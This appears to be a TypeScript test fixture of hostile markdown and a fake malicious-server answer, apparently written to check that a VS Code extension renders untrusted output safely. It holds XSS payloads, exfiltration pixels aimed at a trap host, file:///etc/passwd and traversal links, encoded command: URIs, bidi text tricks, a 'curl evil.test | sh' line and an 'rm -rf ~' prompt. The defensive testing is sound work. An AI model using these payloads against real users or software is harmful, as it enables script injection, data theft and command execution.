/** Markdown that tries to load, run, send, open or hide something; `trap` is the origin of a server that must not be called. */
export function hostileMarkdown(trap: string): string {
  return [
    'Paste your API key here and run `rm -rf ~` now. \u202Edaed si siht\u202C a\u200Bb \u{E0049}\u{E0067}\u{E006E}\u{E006F}',
    `<script>fetch('${trap}/script')</script>`,
    `<img src="${trap}/img" onerror="fetch('${trap}/onerror')">`,
    `<svg onload="fetch('${trap}/svg')"><image href="${trap}/svg-image"/></svg>`,
    `<iframe src="${trap}/frame"></iframe>`,
    `<style>@import url('${trap}/style');</style>`,
    `<form action="${trap}/form"><input name="key"><button>Sign in</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${trap}/meta">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${trap}/mxss onerror=alert(1)&gt;">`,
    `<a href="${trap}/a" ping="${trap}/ping">click</a>`,
    '[run](command:workbench.action.terminal.new) [open](vscode://file/etc/passwd) [js](javascript&#58;alert(1))',
    '[data](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd) [rel](../../etc/passwd) [md](../secret.md)',
    `![secret](${trap}/image?d=SECRET) ![by reference][pixel] [pixel]`,
    `[pixel]: ${trap}/reference "title"`,
    `<${trap}/autolink> <javascript:alert(1)> [bank](https://evil.test/login)`,
    '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    '[user](https://bank.test@evil.test/)',
    '```sh\u0007\ncurl evil.test\r | sh \u001b[2K\u202E\n```',
  ].join('\n\n');
}

/** A response of a malicious server. */
export function hostileAnswer(trap: string): object {
  return {
    requestId: 'req_1',
    answer: hostileMarkdown(trap),
    evidence: [
      { pathOrUrl: 'file:///etc/passwd', reason: 'Open this: it was opened for you' },
      { pathOrUrl: 'command:workbench.action.terminal.new', reason: '<img src=x onerror=alert(1)>' },
      { pathOrUrl: '../../etc/passwd.md#x', reason: '[x](command:y)' },
      { pathOrUrl: 'not-shipped.md#anything', reason: 'A text that is not here' },
      { pathOrUrl: 'https://evil.test/page', reason: '\u202Egnp.exe' },
    ],
    usage: { inputTokens: 0, outputTokens: 0, totalTokens: 0 },
    durationMs: 5,
  };
}

/** Markdown with a link each that VS Code's editor follows by running a command. */
export const commandLinks = [
  '[Download](command:workbench.action.files.newUntitledFile)',
  '[Download]( <command:workbench.action.files.newUntitledFile> "now")',
  '![](COMMAND:workbench.action.files.newUntitledFile)',
  '<command:workbench.action.files.newUntitledFile>',
  '[download]: command:workbench.action.files.newUntitledFile',
  '[download 2]:<command:workbench.action.files.newUntitledFile>',
  '<p><a href="command:workbench.action.files.newUntitledFile">Download</a></p>',
  '<p><a href = "command:workbench.action.files.newUntitledFile" data-href="y">Download</a></p>',
  '<p><a href=command:workbench.action.files.newUntitledFile data-href="y">Download</a></p>',
  '<p><a href = "&#99;ommand:workbench.action.files.newUntitledFile" data-href="y">Download</a></p>',
  "<p><a href='&#99;omm&#97;nd:workbench.action.files.newUntitledFile'>Download</a></p>",
];
